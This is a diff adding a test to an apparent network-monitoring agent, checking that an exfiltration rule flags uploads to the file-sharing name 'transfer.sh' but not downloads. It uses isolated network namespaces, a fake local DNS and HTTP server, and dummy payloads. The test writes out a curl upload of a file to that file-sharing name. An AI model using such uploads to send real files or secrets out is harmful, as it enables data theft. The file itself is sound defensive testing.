@@ -102,3 +102,75 @@ def test_bulk_upload_150_mib_raises_and_10_mib_does_not(agent_factory, tmp_path,
     assert fi["evidence"][0]["kind"] == "flow", fi
     rc, _ = agent.stop()
     assert rc == 0
+
+
+# ---- personal storage and paste services (rules/exfil.yaml) --------------------------------------
+
+STORAGE_NAME = "transfer.sh"
+HTTP_PORT = 8080
+# A plain HTTP server: PUT reads the body, GET returns argv[3] MiB.
+HTTP_SERVER = """
+import http.server, sys
+class H(http.server.BaseHTTPRequestHandler):
+    def do_PUT(self):
+        n = int(self.headers.get("Content-Length", 0))
+        while n > 0:
+            n -= len(self.rfile.read(min(n, 1 << 16)))
+        self.send_response(200); self.send_header("Content-Length", "3"); self.end_headers()
+        self.wfile.write(b"ok\\n")
+    def do_GET(self):
+        size = int(sys.argv[3]) << 20
+        self.send_response(200); self.send_header("Content-Length", str(size)); self.end_headers()
+        chunk = b"\\0" * (1 << 20)
+        for _ in range(size >> 20):
+            self.wfile.write(chunk)
+    def log_message(self, *a):
+        pass
+s = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H)
+print("ready", flush=True)
+s.serve_forever()
+"""
+
+
+def curl(client_ns, *args):
+    p = subprocess.run(["ip", "netns", "exec", client_ns, "curl", "-sS", "--max-time", "20",
+                        "-o", "/dev/null", "-w", "%{http_code}", *args],
+                       capture_output=True, text=True, timeout=30)
+    assert p.returncode == 0 and p.stdout == "200", (p.stdout, p.stderr)
+
+
+def test_upload_to_file_sharing_name_raises_and_download_does_not(agent_factory, tmp_path, netns):
+    client_ns, server_ns = netns.add("stc"), netns.add("sts")
+    _, server_ip = netns.link_pair(client_ns, server_ns)
+    netns.resolv_conf(client_ns, server_ip)
+    # the responder's own TCP sink (argv[3]) listens on the discard port, unused here
+    dns = start_in_ns(server_ns, PY, str(DNS_RESPONDER), server_ip, server_ip, "9", STORAGE_NAME)
+    web = start_in_ns(server_ns, PY, "-c", HTTP_SERVER, server_ip, str(HTTP_PORT), "5")
+    payload = tmp_path / "payload.bin"
+    payload.write_bytes(b"\1" * (5 << 20))
+    agent = exfil_agent(agent_factory, tmp_path)
+    try:
+        # a 5 MiB download from the same name: its flow sent only the request
+        curl(client_ns, f"http://{STORAGE_NAME}:{HTTP_PORT}/report.pdf")
+        f = agent.wait_for(lambda e: e.get("type") == "flow"
+                           and e["flow"].get("remote_port") == HTTP_PORT, timeout=8,
+                           what="the download's flow")["flow"]
+        assert f["dns_name"] == STORAGE_NAME and int(f["bytes_received"]) >= 5 << 20, f
+        assert int(f.get("bytes_sent", 0)) < 1 << 20, f
+        time.sleep(1.5)
+        assert not findings(agent, "GW-EXFIL-0006"), "a download raised the upload rule"
+
+        curl(client_ns, "-T", str(payload), f"http://{STORAGE_NAME}:{HTTP_PORT}/payload.bin")
+        ev = agent.wait_for(lambda e: e.get("type") == "flow" and e["flow"].get("remote_port")
+                            == HTTP_PORT and int(e["flow"].get("bytes_sent", 0)) >= 5 << 20,
+                            timeout=8, what="the upload's flow")
+        assert ev["flow"]["dns_name"] == STORAGE_NAME, ev
+        fi = finding_citing(agent, "GW-EXFIL-0006", ev["event_id"], timeout=3)
+        assert fi["category"] == "exfil" and fi["vendor"] == "transfer.sh", fi
+        assert fi["subject"].endswith("/curl"), fi
+        assert "transfer.sh" in fi["matched"], fi
+        assert len(findings(agent, "GW-EXFIL-0006")) == 1, "the download's flow also matched"
+    finally:
+        for p in (web, dns):
+            p.kill()
+            p.wait()
